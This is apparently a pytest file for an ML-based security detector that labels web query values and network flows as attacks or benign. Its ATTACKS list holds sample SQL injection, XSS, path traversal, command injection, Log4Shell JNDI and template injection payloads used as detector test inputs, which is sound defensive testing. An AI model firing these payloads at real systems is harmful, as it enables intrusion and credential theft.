from __future__ import annotations

import json
import shutil
import subprocess
import sys
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from soc_tui.analysis import prediction
from soc_tui.analysis.corpora import flow as captures
from soc_tui.analysis.encoding import flow
from soc_tui.analysis.prediction import SCORES, Predictor
from soc_tui.core.errors import ModelError, SourceError, UsageError
from soc_tui.core.resources import resource_dir

MODELS = resource_dir("models")


@pytest.fixture(scope="module")
def query_model() -> Predictor:
    return Predictor.load(MODELS, "query")


@pytest.fixture(scope="module")
def flow_model() -> Predictor:
    return Predictor.load(MODELS, "flow")


@pytest.fixture
def models(tmp_path: Path) -> Path:
    for name in ("query.json", "query.safetensors"):
        shutil.copy(MODELS / name, tmp_path / name)
    return tmp_path


def test_importing_the_module_does_not_import_torch() -> None:
    code = "import sys, soc_tui.analysis.prediction; sys.exit('torch' in sys.modules)"
    assert subprocess.run([sys.executable, "-c", code], check=False, cwd=MODELS.parent).returncode == 0


def test_scores_have_the_promised_shape(query_model: Predictor) -> None:
    table = pa.table({"value": ["hello", "' union select password from users--", None, ""]})
    scored = query_model.score(table)
    assert scored.schema == SCORES
    assert scored.num_rows == 4
    assert all(0 <= s <= 1 for s in scored["score"].to_pylist())
    assert scored["label"].to_pylist() == ["benign", "sqli", "benign", "benign"]
    assert [len(json.loads(e)) > 0 for e in scored["explanation"].to_pylist()] == [False, True, False, False]


def test_nothing_to_score_is_no_error(query_model: Predictor, flow_model: Predictor) -> None:
    assert query_model.score(pa.table({"value": pa.array([], pa.string())})).num_rows == 0
    assert flow_model.score(captures.FLOWS.empty_table()).num_rows == 0


def test_a_value_column_may_be_chunked(query_model: Predictor) -> None:
    chunks = pa.chunked_array([["a", "<script>alert(1)</script>"], ["a"]])
    labels = query_model.score(pa.table({"value": chunks}))["label"].to_pylist()
    assert labels == ["benign", "xss", "benign"]


ATTACKS = {
    "1' OR '1'='1' --": "sqli",
    "-1 UNION ALL SELECT null,concat(user,0x3a,password) FROM users#": "sqli",
    "%27%20AND%20SLEEP(5)%23": "sqli",
    "<img src=x onerror=alert(document.cookie)>": "xss",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E": "xss",
    "../../../../../../etc/passwd": "traversal",
    "..%2f..%2f..%2fwindows%2fwin.ini": "traversal",
    "127.0.0.1; cat /etc/passwd": "command",
    "8.8.8.8|whoami": "command",
    "${jndi:ldap://192.0.2.1:1389/a}": "lookup",
    "Mozilla/5.0 ${${::-j}${::-n}di:${lower:l}dap://192.0.2.1/x}": "lookup",
    "{{7*7}}": "template",
    "{% if 7*7 %}{{ config.items() }}{% endif %}": "template",
    "php://filter/convert.base64-encode/resource=index.php": "inclusion",
    "${@print(system('id'))}": "code",
    "';system('cat /etc/passwd');//": "code",
    "*)(uid=*))(|(uid=*": "other",
    "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd": "traversal",
    "%u003cscript%u003ealert(1)%u003c/script%u003e": "xss",
    "PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ+": "xss",
}

ORDINARY = (
    "select a gift from our list", "O'Reilly", "rock 'n' roll", "union square hotel", "anna@example.com", "2024-05-01T10:00:00Z",
    "Stra%C3%9Fe%20und%20Pl%C3%A4tze", "%E6%9D%B1%E4%BA%AC%E3%81%AE%E5%A4%A9%E6%B0%97", "c++ vs c#", "black & decker",
    "a3f1c2d4-9b8e-4f6a-8d7c-0123456789ab", "https://www.example.com/path?x=1&y=2", '{"page":1,"sort":"name"}', "100% cotton", "index.html",
    "/wp-content/themes/site/style.css", "price < 100", "don't panic", "drop off location", "12",
    '{"query":"query { user(id: 5) { name } }","variables":{}}', "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmN",
    "https://ad.example/click;h=v8/3a/0/0/*/x;25-0/0;0;77-300/250;~okv=;sz=300x250;~sscs=?", "x < y and y > z", "# Heading\n\n- item\n- item",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "https://www.google.com/search?q=log+files&ie=utf-8", "<p>Dear <b>Anna</b>,</p>", "========== summary ==========",
)  # fmt: skip


ALARMING = {"https://ad.example/click;h=v8/3a/0/0/*/x;25-0/0;0;77-300/250;~okv=;sz=300x250;~sscs=?"}
"""Ordinary and above the shipped threshold: the address of an advertisement, full of empty parameters."""


def _known_alarms(values: Iterable[str]) -> list[Any]:
    alarm = pytest.mark.xfail(strict=True, reason="scores 0.976, above the shipped threshold")
    return [pytest.param(value, marks=alarm) if value in ALARMING else value for value in values]


@pytest.mark.parametrize("value", ATTACKS)
def test_attacks_are_found_and_named(query_model: Predictor, value: str) -> None:
    (found,) = prediction.score_values("query", [value], predictor=query_model)
    assert (found["verdict"], found["risk_type"], found["label"]) == ("attack", "web-attack", ATTACKS[value])


@pytest.mark.parametrize("value", _known_alarms(ORDINARY))
def test_ordinary_values_pass(query_model: Predictor, value: str) -> None:
    (found,) = prediction.score_values("query", [value], predictor=query_model)
    assert (found["verdict"], found["risk_type"], found["explanation"]) == ("benign", "", [])


@pytest.mark.parametrize(
    ("before", "after"),
    [
        (3000, 0), (0, 3000), (4000, 4000),
        pytest.param(30_000, 30_000, marks=pytest.mark.xfail(strict=True, reason="scores 0.92, below the threshold")),
    ],
)  # fmt: skip
def test_padding_does_not_hide_an_attack(query_model: Predictor, before: int, after: int) -> None:
    value = "lorem ipsum " * (before // 12) + "<script>alert(document.cookie)</script>" + " dolor sit" * (after // 10)
    assert prediction.score_values("query", [value], predictor=query_model)[0]["verdict"] == "attack"


def test_much_padding_lowers_a_score_only_a_little(query_model: Predictor) -> None:
    value = "lorem ipsum " * 2500 + "<script>alert(document.cookie)</script>" + " dolor sit" * 3000
    assert prediction.score_values("query", [value], predictor=query_model)[0]["score"] > 0.9


def test_an_attack_in_a_long_sentence_is_found(query_model: Predictor) -> None:
    value = "a quiet sunday in the park, and then ' union select password from users-- of course"
    assert prediction.score_values("query", [value], predictor=query_model)[0]["verdict"] == "attack"


def test_explanation_points_at_the_attack(query_model: Predictor) -> None:
    value = "a quiet sunday in the park, and then ' union select password from users-- of course"
    found = prediction.explain("query", value, MODELS)
    top = found["explanation"][0]
    begin, end = (int(n) for n in top["field"].removeprefix("characters ").split("-"))
    assert value[begin:end] == top["value"]
    assert top["weight"] > 0
    assert set(range(begin, end)) & set(range(value.index("union"), value.index(" of course")))


def test_without_the_named_characters_a_score_falls_more_than_without_others(query_model: Predictor) -> None:
    from benchmarks.query import faithful

    better, tried = faithful(query_model, 80)
    assert tried >= 40
    assert better >= 0.9 * tried


def test_a_value_scores_the_same_alone_and_among_others(query_model: Predictor) -> None:
    values = [*ATTACKS, *ORDINARY]
    together = query_model.score(pa.table({"value": values}))["score"].to_numpy()
    alone = [query_model.score(pa.table({"value": [v]}))["score"][0].as_py() for v in values]
    np.testing.assert_allclose(together, alone, atol=1e-5)


def test_distinct_rows_are_scored_once(query_model: Predictor, monkeypatch: pytest.MonkeyPatch) -> None:
    from soc_tui.analysis.encoding import inference

    counted: list[int] = []
    original = inference.run
    monkeypatch.setattr(inference, "run", lambda n, rows, b=1024: counted.append(len(rows)) or original(n, rows, b))
    scored = query_model.score(pa.table({"value": ["never seen", "NEVER SEEN", "Never Seen"] * 1000 + ["nor this"]}))
    assert counted == [2]
    assert len(set(scored["score"].to_pylist()[:3000])) == 1


def _scan(hosts: int) -> pa.Table:
    start = 1_699_999_800_000_000
    rows = [
        {"time": start + i * 50_000, "src_ip": "192.0.2.66", "dst_ip": f"10.0.{i // 250}.{i % 250}", "dst_port": 23.0, "protocol": "tcp",
         "duration": 0.0, "bytes_out": 0.0, "bytes_in": 0.0, "packets_out": 1.0, "packets_in": 0.0, "conn_state": "S0"}
        for i in range(hosts)
    ]  # fmt: skip
    table = pa.Table.from_pylist(
        [{**dict.fromkeys(captures.FLOWS.names), **row} for row in rows], schema=captures.FLOWS
    )
    return flow.context(table)


def test_a_scan_is_found_and_explained_by_event_fields(flow_model: Predictor) -> None:
    scored = flow_model.score(_scan(300))
    late = scored.slice(50)
    assert set(late["label"].to_pylist()) <= {"scan", "intrusion", "flood", "c2"}
    known = {field for slots in flow.GROUPS.values() for field, _ in slots}
    for text in late["explanation"].to_pylist():
        *entries, case = json.loads(text)
        assert case["field"] == prediction.NEAREST
        assert {e["field"] for e in entries} <= known
        assert all(set(e) == {"field", "value", "weight"} and isinstance(e["value"], str) for e in [*entries, case])
        assert entries == sorted(entries, key=lambda e: (e["weight"] < 0, -abs(e["weight"])))


def test_removing_the_weightiest_fields_lowers_a_score_more_than_removing_others(
    shared_data: Path, flow_model: Predictor
) -> None:
    from soc_tui.analysis.encoding import inference

    table = captures.read_flows(shared_data / "sensor/stratosphere-testing/011-zeek-mixed/data/conn.log.labeled")
    rows = flow.encode(flow.context(table))
    score = 1 - inference.probabilities(flow_model.network, rows)[:, 0]
    rows = rows[np.flatnonzero(score >= 0.9)[:400]]
    weights = inference.attributions(flow_model.network, rows).sum(2)  # per group
    order = np.argsort(-weights, axis=1)
    lost = []
    for places in (order[:, :2], order[:, -4:-2]):
        cut = rows.copy()
        np.put_along_axis(cut, places[:, :, None], 0.0, axis=1)
        lost.append(float(1 - (1 - inference.probabilities(flow_model.network, cut)[:, 0]).mean()))
    assert lost[0] > 2 * lost[1]


def test_hostile_numbers_do_not_stop_scoring(flow_model: Predictor) -> None:
    table = pa.table({
        "bytes_out": [float("nan"), float("inf"), -1.0, 1e308], "duration": [None, -5.0, float("inf"), 1e300],
        "protocol": ["tcp", "\x1b[31m", None, ""], "conn_state": ["S0", "'; drop", None, "SF"], "dst_port": [1e9, -3.0, None, float("nan")],
    })  # fmt: skip
    scores = flow_model.score(table)["score"].to_numpy()
    assert np.isfinite(scores).all()


@pytest.mark.parametrize("name", ["query.json", "query.safetensors"])
def test_a_missing_file_is_a_model_error_with_a_remedy(models: Path, name: str) -> None:
    (models / name).unlink()
    with pytest.raises(ModelError) as caught:
        Predictor.load(models, "query")
    assert caught.value.source == str(models / name)
    assert "install" in caught.value.remedy


def test_one_flipped_bit_in_the_weights_is_a_model_error(models: Path) -> None:
    path = models / "query.safetensors"
    raw = bytearray(path.read_bytes())
    raw[len(raw) // 2] ^= 1
    path.write_bytes(raw)
    with pytest.raises(ModelError, match="sha256"):
        Predictor.load(models, "query")


@pytest.mark.parametrize("text", ["", "{", "[]", '{"name": "query"}', "\x00"])
def test_a_damaged_card_is_a_model_error(models: Path, text: str) -> None:
    (models / "query.json").write_text(text)
    with pytest.raises(ModelError, match="damaged"):
        Predictor.load(models, "query")


def test_a_card_of_another_shape_is_a_model_error(models: Path) -> None:
    card = json.loads((models / "query.json").read_text())
    card["architecture"]["hidden"] = 7
    (models / "query.json").write_text(json.dumps(card))
    with pytest.raises(ModelError, match="do not fit"):
        Predictor.load(models, "query")


def test_list_models() -> None:
    assert [m["name"] for m in prediction.list_models(MODELS)] == ["code", "domain", "flow", "page", "query", "session"]


def test_a_value_that_is_none_of_the_models_is_refused_and_the_others_are_scored() -> None:
    lines = ["x", '{"proto": "tcp", "id.resp_p": 23, "conn_state": "S0", "orig_pkts": 1}', "[1]", "{" * 100_000]
    rows = prediction.score_values("flow", lines, MODELS)
    assert [row["verdict"] for row in rows] == ["refused", rows[1]["verdict"], "refused", "refused"]
    assert rows[1]["verdict"] in {"attack", "benign"}
    assert (rows[0]["score"], rows[0]["explanation"][0]["value"]) == (None, "is no JSON object of a flow record")
    with pytest.raises(UsageError):
        prediction.score_values("nothing", ["x"])


def test_explain_shows_why_even_below_the_threshold() -> None:
    found = prediction.explain("query", "hello world", MODELS)
    assert found["score"] < 0.5
    *named, rest, case = found["explanation"]
    assert 1 <= len(named) <= 3
    assert rest["field"] == "other characters"
    assert case["field"] == "nearest known case"
    assert case["value"].startswith("benign")


@pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".parquet"])
def test_evaluate_values(tmp_path: Path, suffix: str) -> None:
    rows = [{"value": v, "label": 1} for v in ATTACKS] + [{"value": v, "label": 0} for v in ORDINARY]
    path = tmp_path / f"cases{suffix}"
    if suffix == ".parquet":
        pq.write_table(pa.Table.from_pylist(rows), path)
    elif suffix == ".csv":
        import csv

        with path.open("w", newline="", encoding="utf-8") as file:
            writer = csv.DictWriter(file, ["value", "label"])
            writer.writeheader()
            writer.writerows(rows)
    else:
        path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    figures = prediction.evaluate_file("query", path, MODELS)
    card = json.loads((MODELS / "query.json").read_text())
    precision = len(ATTACKS) / (len(ATTACKS) + len(ALARMING))
    assert 0.99 < figures["auroc"] <= 1
    assert figures == {
        "rows": len(ATTACKS) + len(ORDINARY), "positives": len(ATTACKS), "recall": 1.0,
        "precision": round(precision, 5), "fpr": round(len(ALARMING) / len(ORDINARY), 5),
        "f1": round(2 * precision / (1 + precision), 5), "auroc": figures["auroc"],
        "threshold": card["threshold"], "threshold_source": card["threshold_source"],
    }  # fmt: skip


def test_evaluate_a_labelled_capture(shared_data: Path) -> None:
    figures = prediction.evaluate_file(
        "flow", shared_data / "sensor/stratosphere-testing/011-zeek-mixed/data/conn.log.labeled", MODELS
    )
    assert (figures["rows"], figures["positives"]) == (8722, 3951)
    assert figures["recall"] > 0.95
    assert figures["fpr"] < 0.02


def test_evaluate_refuses_what_it_cannot_read(tmp_path: Path) -> None:
    with pytest.raises(SourceError):
        prediction.evaluate_file("query", tmp_path / "missing.csv", MODELS)
    (tmp_path / "a.csv").write_text("text,class\nx,1\n")
    with pytest.raises(SourceError):
        prediction.evaluate_file("query", tmp_path / "a.csv", MODELS)
    (tmp_path / "b.jsonl").write_text("")
    with pytest.raises(UsageError):
        prediction.evaluate_file("query", tmp_path / "b.jsonl", MODELS)
    (tmp_path / "conn.log").write_text("not a log\n")
    with pytest.raises(SourceError):
        prediction.evaluate_file("flow", tmp_path / "conn.log", MODELS)


def test_under_a_flood_only_the_highest_scores_are_explained(query_model: Predictor) -> None:
    values = ["1' OR '1'='1", "../../etc/passwd", "<script>alert(1)</script>", "index"]
    whole = query_model.score(pa.table({"value": values})).to_pylist()
    some = query_model.score(pa.table({"value": values}), reasons=2).to_pylist()
    assert [row["score"] for row in some] == [row["score"] for row in whole]
    best = sorted(range(3), key=lambda place: (-whole[place]["score"], place))[:2]
    assert [place for place in range(4) if some[place]["explanation"] != "[]"] == sorted(best)
    assert all(some[place]["explanation"] == whole[place]["explanation"] for place in best)
    assert {row["explanation"] for row in query_model.score(pa.table({"value": values}), reasons=0).to_pylist()} == {
        "[]"
    }
